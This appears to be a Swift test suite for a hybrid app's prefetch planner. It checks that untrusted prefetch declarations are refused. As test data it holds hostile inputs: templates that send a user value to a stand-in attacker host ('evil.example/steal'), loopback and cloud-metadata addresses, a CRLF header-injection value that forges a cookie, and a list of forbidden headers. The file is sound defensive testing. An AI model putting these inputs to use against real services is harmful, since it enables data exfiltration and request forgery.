import Foundation
import HybridCookies
import Synchronization
import Testing

@testable import HybridKit

/// Declarations from a package or remote configuration are untrusted: one test per line of the threat model in
/// FirstScreenPrefetching.md, each refused with a typed error (or, for what a value can do, made harmless).
struct PrefetchDeclarationTests {
    static let store = Result {
        try PackageStore(root: URL.temporaryDirectory.appending(path: "prefetch-tests-empty-\(UUID())"))
    }

    static func site(_ address: String = "https://shop.example/") throws -> HybridSite {
        try HybridSite(address, package: .store(try store.get()))
    }

    static func planner(
        _ address: String = "https://shop.example/", policy: PrefetchPolicy = PrefetchPolicy()
    ) throws -> PrefetchPlanner {
        PrefetchPlanner(site: try #require(WebOrigin(try site(address).url)), policy: policy)
    }

    static let page = PrefetchAnsweringTests.url("https://shop.example/item.html?id=7")

    func plan(
        _ request: PrefetchRequest, values: [String: String] = ["user": "u1"], planner: PrefetchPlanner? = nil
    ) throws(PrefetchError) -> PlannedPrefetch {
        let planner = planner ?? (try? Self.planner())
        guard let planner else { throw .unreadable(source: "test", reason: "no planner") }
        return try planner.plan(request, page: Self.page, values: values)
    }

    @Test func aTemplateFilledInStaysOnTheSite() throws {
        let planned = try plan(
            PrefetchRequest(url: "/api/item?id={query.id}&u={user}", headers: ["Accept": "application/json"]))
        #expect(planned.url.absoluteString == "https://shop.example/api/item?id=7&u=u1")
        #expect(planned.headers.map(\.name) == ["accept"])
        let absolute = try plan(PrefetchRequest(url: "https://shop.example/api/{user}"))
        #expect(absolute.url.absoluteString == "https://shop.example/api/u1")
    }

    @Test(arguments: [
        "//evil.example/x", "https://evil.example/x", "https://shop.example.evil.example/x",
        "https://shop.example{user}/x", "https://shop.example:8443/x", "http://shop.example/x", "{user}/x",
        "/\\evil.example/x", "api/x",
    ])
    func aTemplateThatCouldReachAnotherHostIsRefused(_ template: String) throws {
        #expect(throws: PrefetchError.otherOrigin(template: template, site: "https://shop.example")) {
            try plan(PrefetchRequest(url: template))
        }
    }

    @Test func aValueCannotMoveTheRequestElsewhere() throws {
        let hostile = "x@evil.example/../../admin?a=1#f"
        let planned = try plan(PrefetchRequest(url: "/api/feed?user={user}"), values: ["user": hostile])
        #expect(planned.url.host() == "shop.example")
        #expect(planned.url.path() == "/api/feed")
        #expect(planned.url.query() == "user=x%40evil.example%2F..%2F..%2Fadmin%3Fa%3D1%23f")
        // The opened page's path cannot start another authority either.
        let planner = try Self.planner()
        let sneaky = try #require(URL(string: "https://shop.example//evil.example/x"))
        let fromPath = try planner.plan(PrefetchRequest(url: "/{path}"), page: sneaky, values: [:])
        #expect(fromPath.url.host() == "shop.example")
    }

    @Test func hugeNumbersAreRefused() throws {
        let planner = try Self.planner()
        let many = PagePrefetch(page: "/", requests: Array(repeating: PrefetchRequest(url: "/api/x"), count: 9))
        #expect(throws: PrefetchError.tooMany(what: "requests for /", count: 9, limit: 8)) {
            try planner.check(PrefetchDeclarations(pages: [many], source: .remoteConfig))
        }
        let pages = (0..<65).map { PagePrefetch(page: "/\($0)", requests: []) }
        #expect(throws: PrefetchError.tooMany(what: "pages", count: 65, limit: 64)) {
            try planner.check(PrefetchDeclarations(pages: pages, source: .package))
        }
        let long = "/api/" + String(repeating: "a", count: 3000)
        #expect(throws: PrefetchError.tooLarge(what: "a prefetch template", bytes: long.utf8.count, limit: 2048)) {
            try plan(PrefetchRequest(url: long))
        }
        // A value that makes the URL huge once filled in.
        #expect(throws: PrefetchError.self) {
            try plan(PrefetchRequest(url: "/api/{user}"), values: ["user": String(repeating: "b", count: 4000)])
        }
        let headers = Dictionary(uniqueKeysWithValues: (0..<17).map { ("X-H\($0)", "v") })
        #expect(throws: PrefetchError.tooMany(what: "headers", count: 17, limit: 16)) {
            try plan(PrefetchRequest(url: "/api/x", headers: headers))
        }
        let file = Data(repeating: 0x20, count: PrefetchPolicy.maximumDeclarationBytes + 1)
        #expect(throws: PrefetchError.tooLarge(what: "the declarations", bytes: file.count, limit: 262_144)) {
            try PrefetchDeclarations.decode(file, source: .remoteConfig)
        }
    }

    @Test(arguments: [
        "http://127.0.0.1:8080/", "http://10.1.2.3/", "http://192.168.0.10/", "http://172.20.0.1/",
        "http://169.254.169.254/", "http://localhost:3000/", "http://[::1]:8080/", "http://printer.local/",
    ])
    func loopbackAndPrivateAddressesAreRefusedUnlessAllowed(_ address: String) throws {
        let refused = try Self.planner(address)
        let page = try #require(URL(string: address + "index.html"))
        #expect(throws: PrefetchError.self) {
            try refused.plan(PrefetchRequest(url: "/api/x"), page: page, values: [:])
        }
        do {
            _ = try refused.plan(PrefetchRequest(url: "/api/x"), page: page, values: [:])
        } catch {
            guard case .privateAddress = error else {
                Issue.record("\(error)")
                return
            }
        }
        let allowed = try Self.planner(address, policy: PrefetchPolicy(allowsPrivateAddresses: true))
        #expect(try allowed.plan(PrefetchRequest(url: "/api/x"), page: page, values: [:]).url.path() == "/api/x")
    }

    @Test func headerInjectionThroughATemplateValueIsRefused() throws {
        #expect(throws: PrefetchError.headerInjection(name: "X-User")) {
            try plan(
                PrefetchRequest(url: "/api/x", headers: ["X-User": "{user}"]),
                values: ["user": "u1\r\nCookie: sid=stolen"])
        }
        #expect(throws: PrefetchError.headerInjection(name: "X-A\r\nB")) {
            try plan(PrefetchRequest(url: "/api/x", headers: ["X-A\r\nB": "v"]))
        }
        for name in ["Cookie", "Host", "Origin", "Sec-Fetch-Mode", "X-Hybrid-Prefetch", "Proxy-Authorization"] {
            #expect(throws: PrefetchError.forbiddenHeader(name: name)) {
                try plan(PrefetchRequest(url: "/api/x", headers: [name: "v"]))
            }
        }
    }

    @Test func onlySafeMethodsAndKnownValues() throws {
        #expect(throws: PrefetchError.methodNotAllowed("POST")) {
            try plan(PrefetchRequest(method: "POST", url: "/api/x"))
        }
        #expect(throws: PrefetchError.self) { try plan(PrefetchRequest(url: "/api/{nobody}")) }
        #expect(throws: PrefetchError.self) { try plan(PrefetchRequest(url: "/api/{user")) }
        let unreadable = #expect(throws: PrefetchError.self) {
            try PrefetchDeclarations.decode(Data("not json".utf8), source: .package)
        }
        #expect(unreadable?.description.contains("prefetch declarations from package are not readable JSON") == true)
    }

    @Test func declarationsDecodeWithDefaults() throws {
        let json = #"{"pages": [{"page": "/item/*", "requests": [{"url": "/api/item?id={query.id}"}]}]}"#
        let declarations = try PrefetchDeclarations.decode(Data(json.utf8), source: .remoteConfig)
        #expect(declarations.pages.first?.requests.first == PrefetchRequest(url: "/api/item?id={query.id}"))
        #expect(declarations.pages.first?.covers(path: "/item/7.html") == true)
        #expect(declarations.pages.first?.covers(path: "/cart.html") == false)
    }

    @Test func refusedDeclarationsThrowFromThePrefetcher() throws {
        let site = try Self.site()
        let hostile = PrefetchDeclarations(
            pages: [PagePrefetch(page: "/", requests: [PrefetchRequest(url: "https://evil.example/steal")])],
            source: .remoteConfig)
        #expect(throws: PrefetchError.otherOrigin(template: "https://evil.example/steal", site: "https://shop.example"))
        {
            try FirstScreenPrefetcher(site: site, declarations: hostile, jar: CookieJar())
        }
    }

    @Test func remoteConfigurationDeclarationsAreCheckedAndARefusalKeepsThePreviousOnes() throws {
        let json = #"""
            {"version": 2, "prefetch": [{"page": "/", "requests": [{"url": "https://evil.example/steal?u={user}"}]}]}
            """#
        let hostile = try JSONDecoder().decode(RemoteConfig.self, from: Data(json.utf8))
        let started = Mutex(0)
        let prefetcher = try FirstScreenPrefetcher(
            site: try Self.site(),
            declarations: PrefetchDeclarations(pages: [
                PagePrefetch(page: "/", requests: [PrefetchRequest(url: "/api/feed")])
            ]),
            jar: nil,
            network: { _ in
                started.withLock { $0 += 1 }
                return PrefetchAnsweringTests.ScriptedNetwork()
            }, values: { ["user": "u1"] })
        #expect(
            throws: PrefetchError.otherOrigin(
                template: "https://evil.example/steal?u={user}", site: "https://shop.example")
        ) { try prefetcher.apply(hostile) }
        #expect(prefetcher.prefetch(for: PrefetchAnsweringTests.url("https://shop.example/")) == 1)
        #expect(
            prefetcher.pending(for: PrefetchAnsweringTests.url("https://shop.example/")).map(\.url.path) == [
                "/api/feed"
            ])
        // A good one replaces them, and round-trips through the signed document's JSON.
        let good = RemoteConfig(
            version: 3, prefetch: [PagePrefetch(page: "/", requests: [PrefetchRequest(url: "/api/v2/feed")])])
        let decoded = try JSONDecoder().decode(RemoteConfig.self, from: try JSONEncoder().encode(good))
        #expect(decoded == good)
        try prefetcher.apply(decoded)
        #expect(prefetcher.prefetch(for: PrefetchAnsweringTests.url("https://shop.example/?again")) == 1)
        #expect(started.withLock { $0 } == 2)
    }
}
